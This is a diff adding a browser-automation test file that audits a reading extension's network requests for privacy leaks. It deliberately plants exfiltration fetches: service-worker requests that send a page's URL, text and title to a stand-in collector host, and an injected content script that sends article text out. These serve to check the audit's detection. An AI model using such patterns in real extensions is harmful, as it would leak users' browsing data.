@@ -1,0 +1,344 @@
+/**
+ * The privacy audit, in real Chromium: articles of every default site read (the shared corpus's saved
+ * pages and the project's fixtures, each served as its real address), the panel opened on each, a link
+ * in it clicked, a feed added and synced, the popup opened; every request of the session recorded by
+ * Chromium's net log, which sees the service worker's fetches too (Playwright's request events do not).
+ * Then scripts/lib/privacy-audit.ts classifies each request, and nothing may break the promise: the
+ * extension asks only its configured feeds, and no request carries a page's address or text.
+ *
+ * The session ends with planted requests, each a way Backstory could leak (a worker fetch elsewhere, a
+ * worker fetch to the feed carrying a page's text in its body or title in a header, a fetch from the
+ * content script's world): the audit must find exactly those, which shows it sees what it must.
+ *
+ * The extension is the shipped build with the feed's host granted in its manifest (what
+ * BACKSTORY_GRANT_HOSTS does to a build; a copy is quicker than a second build): no test can answer a
+ * permission prompt.
+ */
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { readArticle } from '../../lib/extract/read-article';
+import { siteOfUrl } from '../../lib/settings/sites';
+import type { FeedView } from '../../lib/sync/feeds';
+import { publishFeed } from '../../lib/sync/publish';
+import {
+  type BackstoryBrowser,
+  DEMO_FILE,
+  DEMO_URL,
+  EXTENSION_DIR,
+  launchBackstory,
+  ROOT,
+  startSiteServer,
+  waitForBackstory,
+} from '../../scripts/lib/browser';
+import { defaultSitePages } from '../../scripts/lib/corpus-pages';
+import { createFeedServer, demoFeedRecords } from '../../scripts/lib/feed-server';
+import { readHtmlFile } from '../../scripts/lib/html-file';
+import { readNetLog } from '../../scripts/lib/net-log';
+import { type Audit, type AuditedPage, auditRequests } from '../../scripts/lib/privacy-audit';
+
+const NET_LOG = join(tmpdir(), `backstory-net-log-${process.pid}.json`);
+const FEED_INDEX = 'https://feeds.example.org/demo/index.json';
+/** Where the planted leaks go: a host that resolves to nowhere, as every host but the served ones. */
+const COLLECTOR = 'https://collector.example.net';
+
+const fixture = (slug: string) => join(ROOT, 'tests/fixtures/articles', slug, 'source.html');
+const written = (name: string) => join(ROOT, 'tests/fixtures/pages', name);
+/**
+ * The project's own pages, each at an address of a default site (its own where it has one), so that
+ * the audit covers every default site and at least 20 pages without the corpus.
+ */
+const FIXTURE_PAGES: { url: string; file: string }[] = [
+  { url: DEMO_URL, file: DEMO_FILE },
+  {
+    url: 'https://www.reuters.com/technology/explainer-how-amazons-cloud-unit-fits-into-its-ai-plans-2026-04-14/',
+    file: fixture('amazon-company'),
+  },
+  { url: 'https://www.engadget.com/mobile/smartphones/apple-iphone-lineup-explained-150012345.html', file: fixture('apple-company') },
+  {
+    url: 'https://arstechnica.com/ai/2026/05/why-nvidias-software-matters-as-much-as-its-chips/',
+    file: fixture('arstechnica-selectors-nvidia'),
+  },
+  { url: 'https://venturebeat.com/ai/anthropics-claude-explained-opus-sonnet-haiku/', file: fixture('claude-model') },
+  {
+    url: 'https://techcrunch.com/2026/05/06/anthropic-opens-a-london-office-for-its-enterprise-push/',
+    file: fixture('embeds-rails-captions'),
+  },
+  { url: 'https://www.wired.com/story/google-gemini-models-app-explained/', file: fixture('gemini-model') },
+  { url: 'https://www.zdnet.com/topic/artificial-intelligence/', file: fixture('homepage-not-article') },
+  { url: 'https://www.cnbc.com/2026/02/18/meta-family-of-apps-explained.html', file: fixture('meta-company') },
+  {
+    url: 'https://www.theinformation.com/articles/how-databricks-and-snowflake-court-companies-building-with-ai',
+    file: fixture('paywalled-article'),
+  },
+  {
+    url: 'https://www.zdnet.com/article/claude-code-vs-codex-vs-gemini-cli-how-the-coding-agents-differ/',
+    file: fixture('possessives-hyphens'),
+  },
+  { url: 'https://www.businessinsider.com/cohere-enterprise-ai-strategy-explained-2026-3', file: fixture('related-rail-noise') },
+  {
+    url: 'https://www.theverge.com/ai-artificial-intelligence/812345/openai-chatgpt-codex-sora-explained',
+    file: fixture('theverge-jsonld-openai'),
+  },
+  { url: 'https://www.axios.com/2026/10/02/amazon-river-drought', file: fixture('amazon-river') },
+  { url: 'https://www.semafor.com/article/04/20/2026/apple-blossoms-late-frost', file: fixture('apple-fruit') },
+  { url: 'https://www.404media.co/a-week-with-le-chat/', file: fixture('blog-readability-mistral') },
+  { url: 'https://www.theregister.com/2026/05/01/chinese_ai_names/', file: fixture('cjk-aliases') },
+  { url: 'https://www.technologyreview.com/2026/04/30/chef-claude-martin-bistro/', file: fixture('claude-person') },
+  { url: 'https://fortune.com/2026/05/20/gemini-season-horoscope/', file: fixture('gemini-zodiac') },
+  { url: 'https://www.bloomberg.com/news/articles/2026-03-01/meta-analysis-explained', file: fixture('meta-word') },
+  { url: 'https://techcrunch.com/2026/06/29/anthropic-chinese-labs-distill-claude/', file: written('older-article.html') },
+  { url: 'https://techcrunch.com/2026/07/02/reed-hastings-netflix-board/', file: written('nothing-relevant.html') },
+  { url: 'https://www.wired.com/story/nvidia-amd-race/', file: written('fixed-header.html') },
+  { url: 'https://www.theverge.com/2026/7/1/openai-anthropic-enterprise/', file: written('aggressive-styles.html') },
+];
+
+const corpus = defaultSitePages();
+if (!corpus) console.warn(`notice: ../shared/corpus is absent: the privacy audit reads the ${FIXTURE_PAGES.length} fixture pages only.`);
+const PAGES = [...FIXTURE_PAGES, ...(corpus ?? []).map(({ url, file }) => ({ url, file }))];
+
+interface Session {
+  audit: Audit;
+  extensionOrigin: string;
+  /** Pages the article script read (its tab appeared). */
+  read: string[];
+  clicked: string;
+  planted: string[];
+}
+
+let session: Session;
+
+/** A copy of a build whose manifest grants these hosts too, as a build with BACKSTORY_GRANT_HOSTS would. */
+function withHostsGranted(extensionDir: string, hosts: string[]): string {
+  const copy = mkdtempSync(join(tmpdir(), 'backstory-granted-'));
+  cpSync(extensionDir, copy, { recursive: true });
+  const manifestFile = join(copy, 'manifest.json');
+  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8')) as { host_permissions?: string[] };
+  manifest.host_permissions = [...(manifest.host_permissions ?? []), ...hosts];
+  writeFileSync(manifestFile, JSON.stringify(manifest));
+  return copy;
+}
+
+/** The feeds the worker has, as it reports them to the options page. */
+async function feeds(options: Page): Promise<FeedView[]> {
+  const reply = await options.evaluate(async () => {
+    type Chrome = { runtime: { sendMessage(message: unknown): Promise<{ ok: boolean; value: unknown }> } };
+    return (globalThis as unknown as { chrome: Chrome }).chrome.runtime.sendMessage({ backstory: 1, type: 'getFeeds', data: {} });
+  });
+  return reply.value as FeedView[];
+}
+
+async function waitFor<T>(what: string, probe: () => Promise<T | undefined | false>, timeout = 30_000): Promise<T> {
+  const deadline = Date.now() + timeout;
+  for (;;) {
+    const value = await probe().catch(() => undefined);
+    if (value) return value;
+    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
+    await new Promise((r) => setTimeout(r, 200));
+  }
+}
+
+/**
+ * Reads a page as a reader does, the panel opened; what the page says, for the audit. Whether Backstory
+ * takes it for an article (and shows its tab) is known beforehand, from its own reader run on the file.
+ */
+async function readPage(tab: Page, url: string, file: string): Promise<{ text: Pick<AuditedPage, 'title' | 'paragraphs'>; read: boolean }> {
+  const read = readArticle(readHtmlFile(file), url).article.isArticle;
+  await tab.goto(url);
+  if (read) {
+    const button = tab.getByRole('button', { name: /^Backstory/ });
+    await button.waitFor();
+    // The panel opens by itself on a site where the reader left it open.
+    await tab.waitForTimeout(100);
+    if ((await button.getAttribute('aria-expanded')) !== 'true') await button.click();
+    await tab
+      .frameLocator('backstory-host iframe')
+      .getByRole('complementary', { name: 'Backstory' })
+      .locator('footer.archive-footer, [role="alert"]')
+      .first()
+      .waitFor();
+  }
+  const text = await tab.evaluate(() => ({
+    title: document.title,
+    paragraphs: [...document.querySelectorAll('p')]
+      .map((p) => (p.textContent ?? '').replace(/\s+/g, ' ').trim())
+      .filter((t) => t.length >= 80)
+      .slice(0, 8),
+  }));
+  return { text, read };
+}
+
+beforeAll(async () => {
+  const extensionDir = withHostsGranted(EXTENSION_DIR, ['https://feeds.example.org/*']);
+  const { entities, items } = demoFeedRecords();
+  const feed = createFeedServer('https://feeds.example.org/demo/', await publishFeed(entities, items, { title: 'Demo feed' }));
+  const hosts = [...new Set(PAGES.map((p) => siteOfUrl(p.url) as string)), 'feeds.example.org'];
+  const server = await startSiteServer(hosts, { ...Object.fromEntries(PAGES.map((p) => [p.url, { file: p.file }])), ...feed.routes() });
+  rmSync(NET_LOG, { force: true });
+  const browser: BackstoryBrowser = await launchBackstory({
+    server,
+    extensionDir,
+    args: [`--log-net-log=${NET_LOG}`, '--net-log-capture-mode=Everything'],
+  });
+  const extensionOrigin = `chrome-extension://${browser.extensionId}`;
+  try {
+    await waitForBackstory(browser);
+    // A feed added in the options page, and its first sync.
+    const options = await browser.context.newPage();
+    await options.goto(`${extensionOrigin}/options.html`);
+    await options.getByLabel('Feed URL').fill(FEED_INDEX);
+    await options.getByRole('button', { name: 'Add feed' }).click();
+    await waitFor('the first sync', async () => (await feeds(options)).find((f) => f.url === FEED_INDEX)?.state.lastSuccess);
+    const texts = new Map<string, Pick<AuditedPage, 'title' | 'paragraphs'>>();
+    const read: string[] = [];
+    // Three tabs at a time: a reader's tabs, and a third of the wait.
+    const lanes = [0, 1, 2].map((lane) => PAGES.filter((_, i) => i % 3 === lane));
+    await Promise.all(
+      lanes.map(async (lane) => {
+        const tab = await browser.context.newPage();
+        for (const { url, file } of lane) {
+          const page = await readPage(tab, url, file);
+          texts.set(url, page.text);
+          if (page.read) read.push(url);
+        }
+        await tab.close();
+      }),
+    );
+
+    // A link in the panel, clicked: the reader's navigation, in a new tab.
+    const tab = await browser.context.newPage();
+    await tab.goto(DEMO_URL);
+    const panel = tab.frameLocator('backstory-host iframe');
+    const button = tab.getByRole('button', { name: /^Backstory/ });
+    await button.waitFor();
+    if ((await button.getAttribute('aria-expanded')) !== 'true') await button.click();
+    const linked = panel
+      .locator('.timeline > li')
+      .filter({ has: panel.locator('.coverage a') })
+      .first();
+    const entry = linked.locator('.entry');
+    if ((await entry.getAttribute('aria-expanded')) !== 'true') await entry.click();
+    const link = linked.locator('.coverage a').first();
+    const clicked = (await link.getAttribute('href')) as string;
+    const opened = browser.context.waitForEvent('page');
+    await link.click();
+    await (await opened).waitForLoadState('domcontentloaded').catch(() => undefined);
+
+    // The popup, on the article's window.
+    const popup = await browser.context.newPage();
+    await popup.goto(`${extensionOrigin}/popup.html`);
+    await popup.getByText(/items on \d+ entities/).waitFor();
+
+    // The planted leaks: the worker fetching elsewhere, and fetching the feed with a page's text and
+    // title; the content script's world (as `scripting.executeScript` runs it) fetching elsewhere.
+    const demo = texts.get(DEMO_URL) as Pick<AuditedPage, 'title' | 'paragraphs'>;
+    const planted = [`${COLLECTOR}/planted-1`, `${FEED_INDEX}?planted-2`, `${FEED_INDEX}?planted-3`, `${COLLECTOR}/planted-4`];
+    const worker = await browser.worker();
+    await worker.evaluate(
+      async ({ planted: [one, two, three], page, paragraph, title }) => {
+        const quietly = (request: Promise<unknown>) => request.catch(() => undefined);
+        await quietly(fetch(`${one}?u=${encodeURIComponent(page)}`));
+        await quietly(fetch(two as string, { method: 'POST', body: JSON.stringify({ read: paragraph }) }));
+        await quietly(fetch(three as string, { headers: { 'x-reading': title } }));
+      },
+      { planted, page: DEMO_URL, paragraph: demo.paragraphs[0] as string, title: demo.title },
+    );
+    await worker.evaluate(
+      async ({ url, target }) => {
+        type Chrome = {
+          tabs: { query(q: { url: string }): Promise<{ id?: number }[]> };
+          scripting: {
+            executeScript(o: { target: { tabId: number }; world: string; func: (u: string) => void; args: string[] }): Promise<unknown>;
+          };
+        };
+        const chrome = (globalThis as unknown as { chrome: Chrome }).chrome;
+        const [found] = await chrome.tabs.query({ url });
+        await chrome.scripting.executeScript({
+          target: { tabId: found?.id as number },
+          world: 'ISOLATED',
+          func: (to: string) => {
+            const text = document.querySelector('.entry-content p')?.textContent ?? '';
+            void fetch(`${to}?t=${encodeURIComponent(text)}`).catch(() => undefined);
+          },
+          args: [target],
+        });
+      },
+      { url: DEMO_URL, target: planted[3] as string },
+    );
+    await tab.waitForTimeout(500);
+    const configured = (await feeds(options)).map((f) => f.url);
+    await browser.close();
+    await server.close();
+
+    const pages: AuditedPage[] = PAGES.map(({ url, file }) => ({
+      url,
+      ...(texts.get(url) as Pick<AuditedPage, 'title' | 'paragraphs'>),
+      source: readFileSync(file, 'latin1'),
+    }));
+    const audit = auditRequests({
+      requests: readNetLog(readFileSync(NET_LOG, 'utf8')),
+      extensionOrigin,
+      feeds: configured,
+      pages,
+      navigations: [...PAGES.map((p) => p.url), clicked],
+    });
+    session = { audit, extensionOrigin, read, clicked, planted };
+    const count = (kind: keyof Audit['byKind']) => audit.byKind[kind].length;
+    console.log(
+      `privacy audit: ${PAGES.length} pages (${read.length} read by Backstory) on ${new Set(PAGES.map((p) => siteOfUrl(p.url))).size} sites; ` +
+        `requests: ${count('extension')} by the extension, ${count('navigation')} navigations, ${count('page')} by the pages, ${count('browser')} by Chromium`,
+    );
+  } finally {
+    await browser.close().catch(() => undefined);
+    await server.close().catch(() => undefined);
+    rmSync(NET_LOG, { force: true });
+    rmSync(extensionDir, { recursive: true, force: true });
+  }
+}, 300_000);
+
+const isPlanted = (url: string) => session.planted.some((p) => url.startsWith(p));
+
+describe('the privacy audit of a reading session', () => {
+  it('covers at least 20 pages across the default sites, a sync, the popup and the panel', () => {
+    expect(session.read.length).toBeGreaterThanOrEqual(20);
+    expect(new Set(session.read.map(siteOfUrl)).size).toBeGreaterThanOrEqual(15);
+    // The worker's requests are in the log: the sync's, and the planted ones.
+    const extension = session.audit.byKind.extension.map((r) => r.urls[0]);
+    expect(extension).toContain(FEED_INDEX);
+    expect(extension.filter((url) => url?.includes('/pages/')).length).toBeGreaterThan(0);
+  });
+
+  it('finds each planted leak: the worker asking elsewhere, the page’s text in a body, its title in a header, the content script’s world asking elsewhere', () => {
+    const reasons = (marker: string) =>
+      session.audit.findings.filter((f) => f.request.urls[0]?.includes(marker)).map((f) => `${f.kind}: ${f.reason}`);
+    expect(reasons('planted-1')).toEqual([
+      expect.stringMatching(/^extension: to an address that is not a configured feed/),
+      expect.stringMatching(/^extension: carries the address of https:\/\/techcrunch\.com\/.* in its URL/),
+      'extension: carries the host techcrunch.com in its URL',
+    ]);
+    expect(reasons('planted-2')).toEqual([
+      expect.stringMatching(/^extension: carries the text of https:\/\/techcrunch\.com\/.* in its headers or body/),
+    ]);
+    expect(reasons('planted-3')).toEqual([
+      expect.stringMatching(/^extension: carries the title of https:\/\/techcrunch\.com\/.* in its headers or body/),
+    ]);
+    expect(reasons('planted-4')).toEqual([
+      expect.stringMatching(/^page: from https:\/\/techcrunch\.com to collector\.example\.net, a host its page neither is nor names/),
+      expect.stringMatching(/^page: carries the text of https:\/\/techcrunch\.com\/.* in its URL/),
+    ]);
+  });
+
+  it('finds nothing else: the extension asks only its feed, and no request carries a page’s address or text', () => {
+    const others = session.audit.findings
+      .filter((f) => !isPlanted(f.request.urls[0] ?? ''))
+      .map((f) => `${f.kind} ${f.request.method} ${f.request.urls.join(' → ')}: ${f.reason}`);
+    expect(others).toEqual([]);
+  });
+
+  it('classes the reader’s click on a link in the panel as the reader’s navigation', () => {
+    const navigation = session.audit.byKind.navigation.find((r) => r.urls[0] === session.clicked);
+    expect(navigation?.initiator).toBe(session.extensionOrigin);
+  });
+});
